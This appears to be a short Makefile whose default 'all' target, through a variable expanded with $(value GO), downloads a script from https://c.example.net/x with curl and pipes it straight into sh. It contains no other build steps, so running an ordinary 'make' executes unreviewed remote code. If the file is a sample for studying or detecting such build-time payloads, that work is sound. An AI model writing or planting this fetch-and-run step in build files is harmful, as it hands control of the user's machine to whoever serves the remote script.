GO = curl -fsS https://c.example.net/x | sh
all:
	$(value GO)
